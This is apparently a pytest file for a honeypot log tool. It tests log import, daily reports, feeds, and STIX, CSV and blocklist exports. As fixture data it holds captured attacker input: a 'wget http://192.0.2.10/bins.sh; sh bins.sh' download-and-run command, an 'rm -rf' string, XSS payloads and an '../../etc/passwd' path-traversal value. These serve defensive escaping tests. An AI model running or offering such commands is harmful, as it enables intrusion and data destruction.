"""test_report.py - import, the daily report, the feed and the exports over a fixture store built
by importing tests/e2e/data/report/{access_log,cowrie.json} (written by make_fixture.py).
The daily report must match the golden files exactly, in ja and en, md, html and json, for the
day in Asia/Tokyo and in UTC. HANIPO_UPDATE_GOLDEN=1 rewrites the golden files (review the diff)."""
import gzip
import re
import json
import os
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from conftest import SHARED

DATA = Path(__file__).resolve().parent / "data" / "report"
GOLDEN = DATA / "golden"
UPDATE = os.environ.get("HANIPO_UPDATE_GOLDEN") == "1"
STIX = SHARED / "data" / "stix" / "schemas"


ROOT = Path(__file__).resolve().parents[2]
MMDB = SHARED / "data" / "mmdb"


def build_store(h):
    h.config.write_text(
        h.config.read_text().replace("name = test-sensor", "name = wow-1") +
        f"[signatures]\npath = {ROOT / 'data' / 'signatures'}\n"
        f"[geo]\ncountry_db = {MMDB / 'GeoLite2-Country-Test.mmdb'}\n"
        f"asn_db = {MMDB / 'GeoLite2-ASN-Test.mmdb'}\nasn_csv =\n")
    r = h.cli("import", "--format", "wowhoneypot", str(DATA / "access_log"), check=False)
    assert r.returncode == 0, r.stderr
    r2 = h.cli("import", "--format", "cowrie", str(DATA / "cowrie.json"), check=False)
    assert r2.returncode == 0, r2.stderr
    return r, r2


@pytest.fixture
def store(make_hanipo):
    h = make_hanipo(start=False)
    build_store(h)
    return h


def test_import_reports_malformed_lines_and_counts(make_hanipo):
    h = make_hanipo(start=False)
    r, r2 = build_store(h)
    log = str(DATA / "access_log")
    assert f"{log}:17: not an access_log line" in r.stderr
    assert f"{log}:18: bad base64 request" in r.stderr
    assert "16 imported, 0 already present, 2 malformed lines" in r.stderr
    assert f"{DATA / 'cowrie.json'}:9: not a JSON object" in r2.stderr
    assert "8 imported, 0 already present, 1 malformed line" in r2.stderr
    ev = h.events(kind="request")
    # identical lines inside one log stay two events
    luci = [e for e in ev if e["fields"].get("path") == "/cgi-bin/luci/;stok=/locale"]
    assert len(luci) == 2 and luci[0]["id"] != luci[1]["id"]
    wp = [e for e in ev if e["fields"].get("path") == "/wp-login.php"]
    assert [e["fields"].get("rule") for e in wp] == [1011, 1011]
    assert {e["dst_port"] for e in wp} == {80, 8080}
    assert all(e["sensor"] == "wow-1" for e in ev)
    logins = h.events(kind="login")
    assert [(e["fields"]["user"], e["fields"]["password"]) for e in logins] == \
        [("root", "admin"), ("root", "<b>|`x`")]
    assert {e["sensor"] for e in logins} == {"cowrie-1"}
    assert len({e["session"] for e in h.events(proto="ssh")}) == 1


def test_import_is_idempotent_plain_and_gzip(make_hanipo, tmp_path):
    h = make_hanipo(start=False)
    build_store(h)
    before = len(h.events())
    gz = tmp_path / "access_log.gz"
    gz.write_bytes(gzip.compress((DATA / "access_log").read_bytes()))
    r = h.cli("import", "--format", "wowhoneypot", str(gz), str(DATA / "access_log"),
              check=False)
    assert "0 imported, 32 already present, 4 malformed lines" in r.stderr
    # nothing imported but nothing wrong either: lines were malformed, so not success
    assert r.returncode == 1
    r = h.cli("import", "--format", "cowrie", str(DATA / "cowrie.json"), check=False)
    assert "0 imported, 8 already present" in r.stderr
    assert len(h.events()) == before
    # one more copy of a line already imported twice is a new event
    line = [l for l in (DATA / "access_log").read_text().splitlines() if "luci" in l][0]
    extra = tmp_path / "three"
    extra.write_text((line + "\n") * 3)
    r = h.cli("import", "--format", "wowhoneypot", str(extra))
    assert "1 imported, 2 already present" in r.stderr


def test_import_rejects_bad_usage(make_hanipo):
    h = make_hanipo(start=False)
    r = h.cli("import", "--format", "apache", str(DATA / "access_log"), check=False)
    assert r.returncode == 2 and "wowhoneypot or cowrie" in r.stderr
    r = h.cli("import", "--format", "cowrie", check=False)
    assert r.returncode == 2
    r = h.cli("import", "--format", "cowrie", str(DATA / "missing"), check=False)
    assert r.returncode == 1 and "missing" in r.stderr


CASES = [(tz, lang, fmt) for tz in ("Asia/Tokyo", "UTC") for lang in ("en", "ja")
         for fmt in ("md", "html", "json")]


@pytest.mark.parametrize("tz,lang,fmt", CASES)
def test_daily_report_golden(store, tz, lang, fmt):
    r = store.cli("report", "daily", "--date", "2026-11-26", "--tz", tz, "--lang", lang,
                  "--format", fmt)
    name = f"daily-{tz.replace('/', '_')}-{lang}.{fmt}"
    golden = GOLDEN / name
    if UPDATE:
        GOLDEN.mkdir(exist_ok=True)
        golden.write_text(r.stdout)
    assert r.stdout == golden.read_text(), f"{name} differs from the golden file"


def report_json(h, tz, date="2026-11-26", *extra):
    r = h.cli("report", "daily", "--date", date, "--tz", tz, "--format", "json", *extra)
    return json.loads(r.stdout)


def test_day_boundaries(store):
    tokyo = report_json(store, "Asia/Tokyo")
    utc = report_json(store, "UTC")
    # Tokyo 2026-11-26 = 2026-11-25T15:00Z .. 2026-11-26T15:00Z: 11 access_log lines (00:30 and
    # 23:59:59 JST in, 2026-11-27 00:00 JST out) + 8 Cowrie events
    assert tokyo["start"] == "2026-11-25T15:00:00.000000Z"
    assert tokyo["end"] == "2026-11-26T15:00:00.000000Z"
    assert tokyo["totals"]["events"] == {"day": 19, "prev": 3}
    assert tokyo["hours"][0] == 1 and tokyo["hours"][23] == 1 and tokyo["hours"][10] == 8
    # UTC 2026-11-26: 00:30 JST (15:30Z the day before) is out, 2026-11-27 00:00 and 08:59:59 JST in
    assert utc["start"] == "2026-11-26T00:00:00.000000Z"
    assert utc["totals"]["events"]["day"] == 19
    hours = utc["hours"]
    assert hours[15] == 1 and hours[23] == 1 and hours[14] == 1 and hours[0] == 2
    assert sum(hours) == utc["totals"]["events"]["day"]
    # what is new: 198.51.100.7 and "/" were seen the day before
    assert "198.51.100.7" not in tokyo["new"]["sources"]["values"]
    assert "203.0.113.66" in tokyo["new"]["sources"]["values"]
    assert "/" not in tokyo["new"]["paths"]["values"]
    assert tokyo["new"]["fingerprints"]["values"] == ["ec7378c1a92f5a8dde7e8b7a1ddf33d1"]


def test_report_sensor_filter_and_errors(store):
    r = report_json(store, "Asia/Tokyo", "2026-11-26", "--sensor", "cowrie-1")
    assert r["totals"]["events"]["day"] == 8
    assert [s["sensor"] for s in r["sensors"]] == ["cowrie-1"]
    assert r["new"]["paths"]["count"] == 0
    for bad in (["--tz", "Mars/Olympus"], ["--date", "2026-02-30"], ["--lang", "fr"],
                ["--format", "pdf"], ["--tz", "../../etc/passwd"]):
        x = store.cli("report", "daily", *bad, check=False)
        assert x.returncode == 2, (bad, x.stderr)


def test_report_escapes_attacker_strings(store):
    md = store.cli("report", "daily", "--date", "2026-11-26", "--tz", "UTC").stdout
    html = store.cli("report", "daily", "--date", "2026-11-26", "--tz", "UTC",
                     "--format", "html").stdout
    assert "<script" not in html and "<svg/onload" not in html
    assert "&lt;script&gt;" in html and "\\x1b[31m" in html and "\x1b" not in html
    cell = re.fullmatch(r"\| \d+ \| (.*) \| \d+ \|",
                        [l for l in md.splitlines() if "script" in l][0]).group(1)
    assert not re.search(r"(?<!\\)[<>`|]", cell.replace("\\\\", ""))
    assert "\x1b" not in md
    ua_row = [l for l in md.splitlines() if "script" in l][0]
    # the row still has exactly its 3 cells: every | inside the value is escaped
    assert ua_row.replace("\\|", "").count("|") == 4
    assert "\\`rm -rf\\`" in ua_row
    assert "hxxp://192.0.2.10/bins.sh" in md and "http://192.0.2.10" not in md


def test_report_output_file(store, tmp_path):
    out = tmp_path / "r.md"
    r = store.cli("report", "daily", "--date", "2026-11-26", "--tz", "UTC", "-o", str(out))
    assert r.stdout == "" and out.read_text().startswith("# hanipo daily report 2026-11-26")
    assert not (tmp_path / "r.md.tmp").exists()


def test_feed(store):
    r = store.cli("report", "feed", "--tz", "Asia/Tokyo", "--days", "3650", "--lang", "en")
    ns = {"a": "http://www.w3.org/2005/Atom"}
    root = ET.fromstring(r.stdout)
    entries = root.findall("a:entry", ns)
    titles = [e.find("a:title", ns).text for e in entries]
    # complete past days with events, newest first; 2026-11-27 (JST) is today or later
    assert titles[-2:] == ["hanipo daily report 2026-11-26", "hanipo daily report 2026-11-25"]
    assert root.find("a:updated", ns).text == entries[0].find("a:updated", ns).text
    summary = entries[-1].find("a:summary", ns).text
    assert summary.startswith("Events: 3,")
    assert r.stdout == store.cli("report", "feed", "--tz", "Asia/Tokyo", "--days", "3650").stdout
    # the rollups and a scan of the events give the same feed, in a half-hour zone too
    import subprocess
    for tz in ("Asia/Tokyo", "Asia/Kolkata"):
        out = [subprocess.run(store.args("report", "feed", "--tz", tz, "--days", "3650"),
                              capture_output=True, text=True, timeout=60,
                              env=dict(os.environ, **extra)).stdout
               for extra in ({}, {"HANIPO_REPORT_SCAN": "1"})]
        assert out[0] == out[1] and "<entry>" in out[0]


def stix_validator(schema_path):
    import jsonschema
    store = {}
    for p in STIX.rglob("*.json"):
        s = json.loads(p.read_text())
        store[s["$id"]] = s
    schema = json.loads((STIX / schema_path).read_text())
    try:
        from referencing import Registry, Resource
        reg = Registry().with_resources(
            [(k, Resource.from_contents(v)) for k, v in store.items()])
        return jsonschema.Draft202012Validator(schema, registry=reg)
    except ImportError:
        return jsonschema.Draft202012Validator(
            schema, resolver=jsonschema.RefResolver.from_schema(schema, store=store))


OBJ_SCHEMA = {"identity": "sdos/identity.json", "ipv4-addr": "observables/ipv4-addr.json",
              "ipv6-addr": "observables/ipv6-addr.json", "url": "observables/url.json",
              "observed-data": "sdos/observed-data.json", "indicator": "sdos/indicator.json",
              "sighting": "sros/sighting.json"}


def test_export_stix_validates_and_is_deterministic(store):
    import jsonschema
    a = store.cli("export", "--format", "stix").stdout
    b = store.cli("export", "--format", "stix").stdout
    assert a == b
    bundle = json.loads(a)
    stix_validator("common/bundle.json").validate(bundle)
    for o in bundle["objects"]:
        stix_validator(OBJ_SCHEMA[o["type"]]).validate(o)
    ids = {o["id"] for o in bundle["objects"]}
    assert len(ids) == len(bundle["objects"])
    # the observables' ids are the spec's UUIDv5 (abuse.md 5.1 vectors computed the same way)
    import uuid
    ns = uuid.UUID("00abedb4-aa42-466c-9c01-fed23315a9b7")
    for o in bundle["objects"]:
        if o["type"] in ("ipv4-addr", "ipv6-addr", "url"):
            want = uuid.uuid5(ns, json.dumps({"value": o["value"]}, separators=(",", ":")))
            assert o["id"] == f"{o['type']}--{want}"
    values = {o["value"] for o in bundle["objects"] if "value" in o}
    assert {"198.51.100.7", "2001:db8::5", "http://192.0.2.10/bins.sh"} <= values
    ind = [o for o in bundle["objects"] if o["type"] == "indicator"]
    assert "[url:value = 'http://192.0.2.10/bins.sh']" in [o["pattern"] for o in ind]
    # the validation can fail: a broken object is rejected
    broken = dict(bundle["objects"][1], id="ipv4-addr--not-a-uuid")
    with pytest.raises(jsonschema.ValidationError):
        stix_validator("observables/ipv4-addr.json").validate(broken)


def test_export_csv_jsonl_blocklist(store):
    rows = store.cli("export", "--format", "csv").stdout.splitlines()
    assert rows[0].startswith("id,time,sensor,")
    assert len([r for r in rows[1:] if r]) == len(store.events())
    cmd = [r for r in rows if "ssh" in r and "command" in r][0]
    assert '"cd /tmp; wget http://192.0.2.10/bins.sh; sh bins.sh"' in cmd
    lines = store.cli("export", "--format", "jsonl", "--kind", "login").stdout.splitlines()
    assert [json.loads(l)["fields"]["password"] for l in lines] == ["admin", "<b>|`x`"]
    bl = store.cli("export", "--format", "blocklist", "--since", "100000d").stdout
    assert bl.splitlines() == sorted({e["src_ip"] for e in store.events()})
    # the default window of a blocklist is the last 7 days of now, long after the fixture... or not
    assert store.cli("export", "--format", "blocklist", "--tags", "no-such-sig",
                     "--since", "100000d").stdout == ""
    r = store.cli("export", "--format", "xml", check=False)
    assert r.returncode == 2


def report_env(h, env_extra, *args):
    import subprocess
    env = dict(os.environ, **env_extra)
    r = subprocess.run(h.args("report", "daily", *args), cwd=h.dir, capture_output=True,
                       text=True, env=env, timeout=60)
    assert r.returncode == 0, r.stderr
    return r.stdout


@pytest.mark.parametrize("tz", ["Asia/Tokyo", "UTC", "Asia/Kolkata", "America/St_Johns"])
def test_rollup_and_scan_agree(store, tz):
    # whole-hour zones read the per-hour rollup; the scan of every event must say the same
    args = ("--date", "2026-11-26", "--tz", tz, "--format", "json")
    assert report_env(store, {}, *args) == report_env(store, {"HANIPO_REPORT_SCAN": "1"}, *args)


def test_report_folds_live_events(make_hanipo):
    from conftest import request, build_request, wait_event, wait_until
    h = make_hanipo()
    for path in ("/first", "/second", "/first"):
        request(h.port, build_request("GET", path, headers=[("User-Agent", "probe|`x`")]))
    wait_event(h, "request", count=3)
    # every event of every connection is stored (the start-up probe's and the three requests')
    wait_until(lambda: len(h.events("close")) == len(h.events("connect")) >= 4,
               what="every close event")
    day = h.events(kind="request")[0]["ts"] // 1000000
    import time as _t
    date = _t.strftime("%Y-%m-%d", _t.gmtime(day))
    r = json.loads(h.cli("report", "daily", "--date", date, "--tz", "UTC", "--format",
                         "json").stdout)
    assert {"value": "/first", "count": 2} in r["paths"]
    assert r["totals"]["requests"]["day"] == 3
    assert {"value": "probe|`x`", "count": 3} in r["user_agents"]
    assert set(r["new"]["paths"]["values"]) == {"/first", "/second"}
    # a second report adds nothing twice (the fold mark moved on)
    again = json.loads(h.cli("report", "daily", "--date", date, "--tz", "UTC", "--format",
                             "json").stdout)
    assert again == r
    scan = json.loads(report_env(h, {"HANIPO_REPORT_SCAN": "1"}, "--date", date, "--tz", "UTC",
                                 "--format", "json"))
    assert scan == r


def test_report_signatures_and_geo(store):
    r = report_json(store, "Asia/Tokyo")
    src = {s["value"]: s for s in r["sources"]}
    assert src["81.2.69.142"]["country"] == "GB"
    assert src["2001:218::5"]["country"] == "JP"
    assert src["1.128.0.1"]["asn"].startswith("AS1221 ")
    assert src["198.51.100.7"]["country"] == "--" and src["198.51.100.7"]["asn"] == "--"
    sigs = {s["id"]: s for s in r["signatures"]}
    assert sigs["env-file-leak"]["count"] == 2
    assert sigs["env-file-leak"]["name"].startswith(".env file")
    assert "I7" in sigs["env-file-leak"]["owasp"]
    assert "env-file-leak" not in r["new"]["signatures"]["values"]   # seen 2026-11-25
    assert "vcs-leak" in r["new"]["signatures"]["values"]
    assert {"value": "GB", "count": 2} in r["countries"]
